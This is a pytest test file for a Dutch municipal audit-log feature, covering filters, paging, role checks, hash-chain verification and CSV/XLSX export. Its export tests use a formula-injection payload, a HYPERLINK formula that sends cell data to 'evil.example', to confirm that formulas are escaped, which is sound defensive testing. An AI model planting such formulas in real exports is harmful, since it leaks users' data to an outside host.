"""Issue #10 (auditor): Dutch labels, readable summaries, filters, paging and a safe export of the audit log."""

import csv
import datetime
import io
import zoneinfo

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from audit import anchoring
from audit.models import AuditEvent
from audit.services import diff, record
from core.models import PurchasingOrganisation, Role
from core.testing import MunicipalityFactory, login, user_with_role

AMS = zoneinfo.ZoneInfo("Europe/Amsterdam")


@pytest.fixture
def leiden(db):
    return MunicipalityFactory(cbs_code="GM0546", name="Leiden")


@pytest.fixture
def other(db):
    return MunicipalityFactory(cbs_code="GM0392", name="Haarlem")


@pytest.fixture
def auditor(client, leiden):
    user = user_with_role(Role.AUDITOR, leiden, username="auditor")
    login(client, user)
    return user


def _event(action="tenders.update", municipality="GM0546", role="procurement_officer", actor="inkoper", **kw):
    return record(action, actor=actor, role=role, municipality=municipality, **kw)


def test_summary_fields_are_named_by_the_dutch_label_of_the_objects_field(client, auditor, leiden):
    _event("core.municipality.update", obj=leiden, summary=diff({"name": "Leyden"}, {"name": "Leiden"}))
    assert "naam: Leyden → Leiden" in client.get(reverse("audit:log")).content.decode()


def test_actions_and_roles_are_shown_with_dutch_labels_and_summaries_as_lines(client, auditor):
    _event(summary=diff({"title": "Oud", "budget": 10}, {"title": "Nieuw", "budget": 10}))
    html = client.get(reverse("audit:log")).content.decode()
    assert "Opdracht gewijzigd" in html and "Inkoper" in html
    assert "title: Oud → Nieuw" in html
    assert "{&#x27;before&#x27;" not in html and "procurement_officer<" not in html


def test_auditor_sees_only_events_of_their_municipality(client, auditor, other):
    _event(summary={"n": "eigen"})
    _event(municipality="GM0392", summary={"n": "ander"})
    html = client.get(reverse("audit:log")).content.decode()
    assert "n: eigen" in html and "n: ander" not in html


def test_events_of_a_purchasing_organisation_reach_every_municipalitys_auditor(client, auditor, leiden, other):
    po = PurchasingOrganisation.objects.create(name="Inkoop Holland Rijnland")
    po.municipalities.set([leiden, other])
    event = record("tenders.update", actor="inkoper", municipality=po.municipalities.all(), summary={"n": "samen"})
    assert event.municipality_code == "GM0392,GM0546"
    assert "n: samen" in client.get(reverse("audit:log")).content.decode()


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"gebruiker": "beleid"}, {"b"}),
        ({"rol": "policy_advisor"}, {"b"}),
        ({"soort": "landscape"}, {"c"}),
        ({"actie": "tenders.publish"}, {"a"}),
        ({"object": "core.Municipality"}, {"m"}),
        ({"van": "2026-03-02", "tot": "2026-03-02"}, {"b"}),
    ],
)
def test_filters_by_period_user_role_kind_action_and_object(client, auditor, leiden, params, expected):
    with time_machine.travel(datetime.datetime(2026, 3, 1, 23, 30, tzinfo=AMS), tick=False):
        _event("tenders.publish", summary={"n": "a"})
    with time_machine.travel(datetime.datetime(2026, 3, 2, 0, 30, tzinfo=AMS), tick=False):
        _event("tenders.update", actor="beleid", role="policy_advisor,procurement_officer", summary={"n": "b"})
    with time_machine.travel(datetime.datetime(2026, 3, 3, 0, 30, tzinfo=AMS), tick=False):
        _event("landscape.import", summary={"n": "c"})
        _event("core.municipality.update", obj=leiden, summary={"n": "m"})
    response = client.get(reverse("audit:log"), params)
    assert response.status_code == 200
    shown = {e.summary["n"] for e in response.context["page"]}
    assert shown == expected


@pytest.mark.parametrize(
    "params",
    [{"van": "2026-03-05", "tot": "2026-03-01"}, {"van": "0001-13-01"}, {"rol": "baas"}],
)
def test_bad_filters_are_a_dutch_400_not_a_500(client, auditor, params):
    response = client.get(reverse("audit:log"), params)
    assert response.status_code == 400
    html = response.content.decode()
    assert "utrecht-form-field__error-message" in html


def test_a_nul_character_in_a_filter_is_a_dutch_400_page(client, auditor):
    """core.middleware.RejectNulBytes answers before the page (and PostgreSQL) sees it."""
    response = client.get(reverse("audit:log"), {"actie": "\x00"})
    assert response.status_code == 400
    assert '<html lang="nl"' in response.content.decode()


def test_export_has_bad_filters_as_400(client, auditor):
    assert client.get(reverse("audit:export_csv"), {"van": "gisteren"}).status_code == 400


def test_paging_through_a_large_log_keeps_the_query_count_flat(client, auditor, django_assert_max_num_queries):
    for i in range(120 - AuditEvent.objects.count()):  # with the auditor's login event: 120
        _event(summary={"n": i})
    with django_assert_max_num_queries(12):
        first = client.get(reverse("audit:log"))
    with django_assert_max_num_queries(12):
        last = client.get(reverse("audit:log"), {"pagina": 3})
    assert len(first.context["page"]) == 50 and len(last.context["page"]) == 20


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_csv_export_of_the_selection_escapes_formulas(client, auditor):
    _event("tenders.update", actor=HOSTILE, summary={"n": "x"})
    _event("landscape.import", summary={"n": "y"})
    response = client.get(reverse("audit:export_csv"), {"soort": "tenders"})
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Volgnummer" and len(rows) == 2
    assert rows[1][2] == "'" + HOSTILE
    assert rows[1][5] == "Opdracht gewijzigd"


def test_xlsx_export_escapes_formulas_and_survives_control_characters(client, auditor):
    _event("tenders.update", actor="@SUM(1+1)", summary={"naam": "Stichting\x07 A", "f": "-2+3"})
    response = client.get(reverse("audit:export_xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert row[2] == "'@SUM(1+1)"
    assert all(not (isinstance(v, str) and v.startswith("=")) for v in row)
    assert "Stichting A" in row[9]


@pytest.mark.parametrize("name", ["audit:log", "audit:export_csv", "audit:export_xlsx"])
def test_audit_log_is_closed_to_anonymous_and_other_roles(client, leiden, name):
    assert client.get(reverse(name)).status_code == 302
    login(client, user_with_role(Role.POLICY_ADVISOR, leiden))
    assert client.get(reverse(name)).status_code == 403


def test_chain_check_result_and_last_verified_checkpoint_are_shown(client, auditor, signing_key_file):
    _event(summary={"n": 1})
    checkpoint = anchoring.make_checkpoint()
    html = client.get(reverse("audit:log")).content.decode()
    assert "nog niet gecontroleerd" in html
    response = client.post(reverse("audit:check"), follow=True)
    html = response.content.decode()
    assert "Intact bij de laatste controle" in html
    assert f"Laatst gecontroleerde anker: gebeurtenis {checkpoint.seq}" in html


def test_broken_chain_is_shown_on_the_audit_page(client, auditor):
    first = _event(summary={"n": 1})
    _event(summary={"n": 2})
    AuditEvent.objects.filter(seq=first.seq).update(summary={"n": 9})
    html = client.post(reverse("audit:check"), follow=True).content.decode()
    assert "Gebroken bij de laatste controle" in html and f"Gebeurtenis {first.seq}" in html


def test_chain_check_needs_a_post_and_the_auditor_role(client, leiden):
    assert client.get(reverse("audit:check")).status_code in (302, 405)
    login(client, user_with_role(Role.POLICY_ADVISOR, leiden))
    assert client.post(reverse("audit:check")).status_code == 403


def test_checkpoints_are_public_with_the_public_key_and_a_json_export(client, db, signing_key_file):
    _event(summary={"n": 1})
    checkpoint = anchoring.make_checkpoint()
    html = client.get(reverse("audit:checkpoints")).content.decode()
    public = anchoring.export()["public_keys"][0]["public_key"]
    assert public in html and checkpoint.head_hash in html
    data = client.get(reverse("audit:checkpoints_json")).json()
    assert data["checkpoints"][0]["seq"] == 1 and data["public_keys"][0]["public_key"] == public
    assert anchoring.load_export(client.get(reverse("audit:checkpoints_json")).content.decode())
